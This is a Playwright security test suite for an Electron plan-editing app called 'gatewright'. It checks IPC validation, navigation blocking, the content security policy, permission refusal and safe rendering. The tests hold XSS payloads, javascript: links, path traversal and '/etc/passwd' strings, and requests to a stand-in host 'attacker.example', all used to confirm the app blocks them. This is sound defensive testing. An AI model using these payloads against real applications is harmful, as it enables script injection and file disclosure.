import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { ElectronApplication, Page } from '@playwright/test'
import manifest from '../../package.json' with { type: 'json' }
import { channelOf } from '../../shared/bridge/channel.ts'
import { CALL_NAMES } from '../../shared/bridge/names.ts'
import { expect, readyPage, test } from './fixtures.ts'
import { answerDialogs, barePage } from './machine.ts'
import { inspector, outlineRow } from './window.ts'

const HOME = 'app://gatewright/index.html'
const ELSEWHERE = 'https://attacker.example/'

interface Spy {
  readonly requests: string[]
  readonly navigations: string[]
}

/** From now on notes what asks for more than the app's own files, and what the page becomes. */
const spy = (app: ElectronApplication): Promise<void> =>
  app.evaluate(({ session, BrowserWindow }) => {
    const seen: Spy = { requests: [], navigations: [] }
    Object.assign(globalThis, { seen })
    session.defaultSession.webRequest.onBeforeRequest(({ url }, go) => {
      if (!/^(?:app:\/\/gatewright\/|data:|blob:app:|devtools:)/.test(url)) seen.requests.push(url)
      go({})
    })
    for (const { webContents } of BrowserWindow.getAllWindows())
      webContents.on('did-navigate', (_event, url) => seen.navigations.push(url))
  })

const seen = (app: ElectronApplication): Promise<Spy> =>
  app.evaluate(() => (globalThis as unknown as { seen: Spy }).seen)

/** Nothing has left, and the one window is what it was. */
async function expectUntouched(app: ElectronApplication, page: Page): Promise<void> {
  // What was started before this has been answered by then.
  expect(await page.evaluate(() => fetch('index.html').then(({ status }) => status))).toBe(200)
  expect(await seen(app)).toEqual({ requests: [], navigations: [] })
  expect(page.url()).toBe(HOME)
  expect(
    page
      .frames()
      .map((frame) => frame.url())
      .filter((url) => /^(?:http|file|smb|data)/.test(url)),
  ).toEqual([])
  expect(await app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1)
}

test('every channel refuses what is no request of its', async ({ app }) => {
  const page = await barePage(app)
  const answered = await page.evaluate(async (names) => {
    const hostile: readonly unknown[] = [
      null,
      7,
      '/etc/passwd',
      ['/etc/passwd'],
      'x'.repeat(1_000_000),
      new Uint8Array(8),
      JSON.parse('{"__proto__":{"path":"/etc/passwd"},"close":1}'),
      { constructor: { prototype: {} } },
      { path: '/etc/passwd', shell: 'rm', id: 1, text: {}, name: [] },
    ]
    const calls = window.gatewright as unknown as Record<string, (request: unknown) => Promise<unknown>>
    const tried = names.flatMap((name) =>
      hostile.map((request) =>
        (calls[name]?.(request) ?? Promise.resolve()).then(
          () => name,
          (error: unknown) => (String(error).includes(`${name}: wrong request`) ? '' : `${name}: ${String(error)}`),
        ),
      ),
    )
    return (await Promise.all(tried)).filter((each) => each !== '')
  }, CALL_NAMES)
  expect(answered).toEqual([])
})

test('every channel answers only the main frame of our own windows', async ({ app }) => {
  const page = await barePage(app)
  await expect(page).toHaveURL(HOME)
  const channels = [...CALL_NAMES, 'openDropped'].map((name) => channelOf(name))
  const answered = await app.evaluate(async ({ BrowserWindow, ipcMain }, names) => {
    type Handler = (event: unknown, request: unknown) => unknown
    const { _invokeHandlers: handlers } = ipcMain as unknown as { _invokeHandlers: Map<string, Handler> }
    const [window] = BrowserWindow.getAllWindows()
    const sender = window?.webContents
    const foreign = new BrowserWindow({ show: false }).webContents
    const ours = { url: 'app://gatewright/index.html' }
    const senders = {
      'a frame that is gone': { sender, senderFrame: null },
      'a frame in our page': { sender, senderFrame: ours },
      'a foreign window': { sender: foreign, senderFrame: foreign.mainFrame },
      'another window with our page': { sender: { id: -1, mainFrame: ours }, senderFrame: ours },
    }
    const results: string[] = []
    for (const name of names)
      for (const [who, event] of Object.entries(senders))
        try {
          await handlers.get(name)?.(event, undefined)
          results.push(`${name} answers ${who}`)
        } catch (error) {
          if (!String(error).includes('not one of our windows')) results.push(`${name}, ${who}: ${String(error)}`)
        }
    return [...results, ...names.filter((name) => !handlers.has(name))]
  }, channels)
  expect(answered).toEqual([])
})

test('a dropped file is a path, whatever a page makes of the preload’s word', async ({ app }) => {
  await barePage(app)
  const answered = await app.evaluate(async ({ BrowserWindow, ipcMain }, channel) => {
    type Handler = (event: unknown, request: unknown) => unknown
    const { _invokeHandlers: handlers } = ipcMain as unknown as { _invokeHandlers: Map<string, Handler> }
    const sender = BrowserWindow.getAllWindows()[0]?.webContents
    const refusal = async (request: unknown): Promise<string> => {
      try {
        await handlers.get(channel)?.({ sender, senderFrame: sender?.mainFrame }, request)
        return 'answered'
      } catch (error) {
        return (error as Error).name
      }
    }
    const hostile = [undefined, null, 7, '', '/a\0b', `/${'a'.repeat(5000)}`, ['/etc/passwd'], {}]
    return Promise.all(hostile.map(refusal))
  }, channelOf('openDropped'))
  expect(new Set(answered)).toEqual(new Set(['ZodError']))
})

test('only pages of the project are opened in the browser', async ({ app }) => {
  const page = await barePage(app)
  await app.evaluate(({ shell }) => {
    const opened: string[] = []
    Object.assign(globalThis, { opened })
    shell.openExternal = (url) => {
      opened.push(url)
      return Promise.resolve()
    }
  })
  const own = manifest.homepage
  const others = [ELSEWHERE, own.replace('https', 'http'), own.replace('://', '://a@attacker.example/?'), `${own}:444/`]
  const outcomes = await page.evaluate(
    (urls) => Promise.all(urls.map((url) => window.gatewright.openPage({ url }).then(String, String))),
    [...others, `${own}/releases/`],
  )
  expect(outcomes.slice(0, -1).filter((outcome) => !/only pages of the project|wrong request/.test(outcome))).toEqual(
    [],
  )
  const opened = app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)
  expect(await opened).toEqual([`${own}/releases/`])
})

test('a page of ours that became another is not answered', async ({ app }) => {
  const page = await barePage(app)
  await app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows()[0]?.loadURL('data:text/html,<h1>foreign</h1>'),
  )
  const answer = await page.evaluate(() =>
    window.gatewright.start().then(
      () => 'answered',
      (error: unknown) => String(error),
    ),
  )
  expect(answer).toContain('not one of our windows')
})

const ways: readonly (readonly [string, (address: string) => void])[] = [
  [
    'a link',
    (address) => {
      const link = document.createElement('a')
      link.href = address
      document.body.append(link)
      link.click()
    },
  ],
  [
    'a link to a new window',
    (address) => {
      const link = document.createElement('a')
      Object.assign(link, { href: address, target: '_blank' })
      document.body.append(link)
      link.click()
    },
  ],
  [
    'a link clicked with the middle button',
    (address) => {
      const link = document.createElement('a')
      link.href = address
      document.body.append(link)
      link.dispatchEvent(new MouseEvent('click', { button: 1, ctrlKey: true, bubbles: true, cancelable: true }))
    },
  ],
  [
    'a link that downloads',
    (address) => {
      const link = document.createElement('a')
      Object.assign(link, { href: address, download: 'plan.json' })
      document.body.append(link)
      link.click()
    },
  ],
  [
    'a form',
    (address) => {
      const form = document.createElement('form')
      Object.assign(form, { action: address, method: 'post' })
      document.body.append(form)
      form.submit()
    },
  ],
  ['location', (address) => (location.href = address)],
  ['location.replace', (address) => location.replace(address)],
  ['window.open', (address) => window.open(address)],
  [
    'a meta refresh',
    (address) => {
      const meta = document.createElement('meta')
      Object.assign(meta, { httpEquiv: 'refresh', content: `0;url=${address}` })
      document.head.append(meta)
    },
  ],
  [
    'history',
    (address) => {
      try {
        history.pushState(null, '', address)
      } catch {
        // Refused.
      }
      history.back()
      history.forward()
    },
  ],
  [
    'frames, plugins, pictures, films and sounds',
    (address) => {
      for (const tag of ['iframe', 'frame', 'embed', 'object', 'portal', 'webview', 'img', 'video', 'audio'])
        try {
          const element = document.createElement(tag)
          document.body.append(element)
          element.setAttribute(tag === 'object' ? 'data' : 'src', address)
        } catch {
          // Refused: not a trusted type.
        }
    },
  ],
  [
    '<base>',
    (address) => {
      const base = document.createElement('base')
      base.href = address
      document.head.append(base)
      const image = document.createElement('img')
      image.setAttribute('src', 'picture.png')
      document.body.append(image)
    },
  ],
  [
    'a style sheet, a font, a manifest, a prefetch',
    (address) => {
      for (const rel of ['stylesheet', 'prefetch', 'preload', 'preconnect', 'dns-prefetch', 'manifest', 'icon']) {
        const link = document.createElement('link')
        Object.assign(link, { rel, href: address, as: 'font' })
        document.head.append(link)
      }
      document.body.style.backgroundImage = `url(${address})`
    },
  ],
  [
    'requests of scripts',
    (address) => {
      const socket = address.replace('http', 'ws')
      const attempts = [
        () => navigator.sendBeacon(address, 'x'),
        () => new WebSocket(socket),
        () => new EventSource(address),
        () => {
          const request = new XMLHttpRequest()
          request.open('POST', address)
          request.send('x')
        },
        () => new Worker(address),
        () => new SharedWorker(address),
        () => void import(address).catch(() => undefined),
        () => void navigator.serviceWorker.register('index.html').catch(() => undefined),
      ]
      for (const attempt of attempts)
        try {
          attempt()
        } catch {
          // Refused.
        }
    },
  ],
]

const addresses = [ELSEWHERE, 'file:///etc/passwd', 'smb://attacker.example/share', 'vscode://file/etc/passwd']

test('no way out of the window leads anywhere, and nothing is asked of the network', async ({ app, errors }) => {
  const page = await readyPage(app)
  await spy(app)
  for (const [way, run] of ways)
    await test.step(way, async () => {
      for (const address of addresses) await page.evaluate(run, address)
      await expectUntouched(app, page)
    })
  errors.length = 0
})

test('the policy of the page allows nothing unsafe and nothing from elsewhere', async ({ page }) => {
  const policy = await page.evaluate(() =>
    fetch('index.html').then(({ headers }) => headers.get('Content-Security-Policy') ?? ''),
  )
  expect(policy).toMatch(/^default-src 'none'; script-src 'self'; /)
  expect(policy).not.toMatch(/unsafe|\*|https?:/)
})

test('a page writes no file by downloading', async ({ app }) => {
  const page = await readyPage(app)
  const stopped = await app.evaluateHandle(({ session }) => {
    const download = new Promise<boolean>((resolve) => {
      session.defaultSession.once('will-download', (event) => {
        resolve(event.defaultPrevented)
      })
    })
    // Not the promise itself, which would be awaited here.
    return { download }
  })
  await page.evaluate(() => {
    const link = document.createElement('a')
    Object.assign(link, { href: URL.createObjectURL(new Blob(['x'])), download: 'plan.json' })
    link.click()
  })
  expect(await stopped.evaluate(({ download }) => download)).toBe(true)
})

test('a script of a javascript: address, a data: frame or a worker does not run', async ({ app, errors }) => {
  const page = await readyPage(app)
  await spy(app)
  await page.evaluate(() => {
    const code = 'window.top.injected = 1'
    const link = document.createElement('a')
    link.setAttribute('href', `javascript:${code}`)
    document.body.append(link)
    link.click()
    const frame = document.createElement('iframe')
    frame.setAttribute('src', `data:text/html,<script>${code}</script>`)
    document.body.append(frame)
    for (const attempt of [
      () => new Worker(URL.createObjectURL(new Blob([code]))),
      () => document.body.setAttribute('onclick', code),
      () => document.body.insertAdjacentHTML('beforeend', `<img src=x onerror="${code}">`),
      () => document.createRange().createContextualFragment(`<img src=x onerror="${code}">`),
    ])
      try {
        attempt()
      } catch {
        // Refused.
      }
    document.body.click()
  })
  frameless(page)
  expect(await page.evaluate(() => 'injected' in window)).toBe(false)
  expect((await seen(app)).requests).toEqual([])
  errors.length = 0
})

/** A frame may have been made; it has shown nothing. */
function frameless(page: Page): void {
  expect(page.frames().filter((frame) => frame.url().startsWith('data:'))).toEqual([])
}

test('every permission but copying text is refused', async ({ app, errors }) => {
  const page = await readyPage(app)
  const names = [
    'geolocation',
    'notifications',
    'camera',
    'microphone',
    'midi',
    'clipboard-read',
    'persistent-storage',
    'background-sync',
    'storage-access',
    'screen-wake-lock',
    'idle-detection',
    'window-management',
    'local-fonts',
    'display-capture',
  ]
  const granted = await page.evaluate(async (all) => {
    const states = await Promise.all(
      all.map((name) =>
        navigator.permissions.query({ name: name as PermissionName }).then(
          ({ state }) => (state === 'granted' ? name : ''),
          () => '',
        ),
      ),
    )
    return states.filter((name) => name !== '')
  }, names)
  expect(granted).toEqual([])
  const used = await page.evaluate(async () => {
    type Asking = Record<string, { requestDevice?: (options: object) => Promise<unknown> } | undefined>
    const devices = navigator as unknown as Asking
    const attempts: Record<string, () => Promise<unknown> | undefined> = {
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      midi: () => navigator.requestMIDIAccess(),
      usb: () => devices['usb']?.requestDevice?.({ filters: [] }),
      bluetooth: () => devices['bluetooth']?.requestDevice?.({ acceptAllDevices: true }),
      clipboard: () => navigator.clipboard.readText(),
    }
    const results = await Promise.all(
      Object.entries(attempts).map(async ([name, attempt]) => {
        try {
          return (await attempt()) === undefined ? '' : name
        } catch {
          return ''
        }
      }),
    )
    return results.filter((name) => name !== '')
  })
  expect(used).toEqual([])
  errors.length = 0
})

const HOSTILE = `"><img src=${ELSEWHERE}a.png onerror="window.injected=1"><script src=${ELSEWHERE}a.js></script>`

/** A plan that tries to be more than a plan wherever it may say something. */
const hostilePlan = {
  format: 'gatewright-plan',
  version: 1,
  name: HOSTILE,
  tags: { Note: HOSTILE, Link: 'javascript:window.injected=1' },
  resources: {
    hq: { kind: 'site', name: HOSTILE },
    main: { kind: 'vpc', name: `</text><script>window.injected=1</script>`, cidrBlock: HOSTILE },
    app: { kind: 'subnet', name: `<svg onload="window.injected=1">`, vpc: 'main', cidrBlock: '10.0.0.0/24' },
    words: {
      kind: 'note',
      name: 'words',
      text: `[click](javascript:window.injected=1) ![x](${ELSEWHERE}b.png) ${HOSTILE}`,
    },
  },
}

test('a crafted plan is text in every view and in every document', async ({ launch, userData }) => {
  const path = join(userData, 'crafted.gatewright.json')
  await writeFile(path, JSON.stringify(hostilePlan))
  const app = await launch({ args: [path] })
  const page = await readyPage(app)
  await spy(app)
  await page.reload()
  await page.locator('html[data-ready=true]').waitFor()
  await outlineRow(page, /<svg onload/).click()
  await expect(inspector(page).getByRole('heading', { name: '<svg onload' })).toBeVisible()
  for (const panel of ['Terraform', 'Addresses', 'Problems']) await page.getByRole('tab', { name: panel }).click()
  const odd = await page.evaluate(() => ({
    scripts: [...document.querySelectorAll('script')].map(({ src }) => src).filter((src) => !src.startsWith('app://')),
    handlers: document.querySelectorAll('[onerror], [onload], [onclick]').length,
    remote: document.querySelectorAll('[src^=http], [href^=http], [href^="javascript:"], iframe, object, embed').length,
    injected: 'injected' in window,
  }))
  expect(odd).toEqual({ scripts: [], handlers: 0, remote: 0, injected: false })
  expect((await seen(app)).requests).toEqual([])
})

test('a document that is printed or drawn runs nothing and fetches nothing', async ({ app, userData, errors }) => {
  const page = await barePage(app)
  await spy(app)
  const html = `<!doctype html><title>x</title><link rel=stylesheet href=${ELSEWHERE}a.css><meta http-equiv=refresh content="0;url=${ELSEWHERE}">
    <script>location = '${ELSEWHERE}'</script><img src=${ELSEWHERE}a.png onerror="location='${ELSEWHERE}'"><iframe src=${ELSEWHERE}></iframe>
    <iframe src=file:///etc/passwd></iframe><object data=app://gatewright/index.html></object><p>text</p>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><script>location='${ELSEWHERE}'</script>
    <image href="${ELSEWHERE}a.png" width="9" height="9"/><use href="${ELSEWHERE}a.svg#a"/><foreignObject width="9" height="9">
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}"/></foreignObject></svg>`
  for (const request of [
    { format: 'pdf', html, suggestedName: 'a' },
    { format: 'png', svg, scale: 1, suggestedName: 'a' },
  ] as const) {
    const path = join(userData, `a.${request.format}`)
    await answerDialogs(app, { save: path })
    expect(await page.evaluate((it) => window.gatewright.exportDrawing(it), request)).toEqual({ path })
  }
  expect((await seen(app)).requests).toEqual([])
  errors.length = 0
})

test('the bridge opens and writes only what the user chose', async ({ app, userData }) => {
  const page = await barePage(app)
  const path = join(userData, 'never-chosen.json')
  await writeFile(path, 'secret')
  const tried = await page.evaluate(async (target) => {
    const outcome = (asked: Promise<unknown>): Promise<string> =>
      asked.then(
        (answer) => `answered ${JSON.stringify(answer)}`,
        (error: unknown) => String(error),
      )
    const paths = [
      target,
      '/etc/passwd',
      '../../etc/passwd',
      '\\\\attacker.example\\share\\a.json',
      'file:///etc/passwd',
      '/dev/zero',
    ]
    const all = paths.flatMap((each) => [
      outcome(window.gatewright.openRecent({ path: each })),
      outcome(window.gatewright.readAgain({ path: each })),
      outcome(window.gatewright.savePlan({ path: each, text: 'x', suggestedName: 'a' })),
      outcome(window.gatewright.setDocument({ name: 'a', path: each, edited: false })),
      outcome(window.gatewright.keepRecovery({ id: crypto.randomUUID(), path: each, name: 'a', text: 'x' })),
    ])
    return Promise.all(all)
  }, path)
  for (const outcome of tried) expect(outcome).toMatch(/not in the recent list|has not chosen this path/)
  expect(await page.evaluate(() => window.gatewright.start())).toMatchObject({ file: null, recoveries: [] })
  const answered = await page.evaluate((it) => window.gatewright.readAgain({ path: it }).catch(String), path)
  expect(answered).toContain('has not chosen this path')
  await answerDialogs(app, { open: '/dev/zero' })
  const special = await page.evaluate(() => window.gatewright.openPlan({ purpose: 'open' }))
  expect(special).toMatchObject({ code: 'file-special' })
})
